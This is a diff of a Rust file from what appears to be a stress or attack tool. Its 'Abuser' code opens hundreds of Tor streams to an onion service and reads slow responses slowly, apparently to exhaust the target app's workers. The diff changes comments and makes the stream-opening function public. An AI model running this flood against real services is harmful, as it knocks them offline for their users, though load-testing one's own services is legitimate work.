@@ -12,7 +12,8 @@ use tokio::time::{Instant, sleep, sleep_until, timeout_at};
 use super::target::path;
 use crate::torclient::connect;
 
-/// The number of streams that are kept open, and the number of responses that are read slowly.
+/// The number of streams that are kept open, and the number of responses that are read slowly. A
+/// circuit without limits has 256 of them at most, more than the app has workers.
 const STREAMS: usize = 400;
 /// The number of streams of the flood that are opened at the same time.
 const FLOOD: usize = 50;
@@ -54,8 +55,8 @@ impl Abuser<'_> {
         let _ = timeout_at(end, join_all((0..count).map(|_| repeat()))).await;
     }
 
-    /// Opens a stream and requests a response that takes a while.
-    async fn open(self) -> Result<TcpStream> {
+    /// Opens a stream and requests a response that takes a minute.
+    pub async fn open(self) -> Result<TcpStream> {
         let mut stream = connect(self.socks, self.onion, self.isolation).await?;
         let request = format!("GET {} HTTP/1.0\r\nHost: {}\r\n\r\n", path(LONG), self.onion);
         stream.write_all(request.as_bytes()).await?;
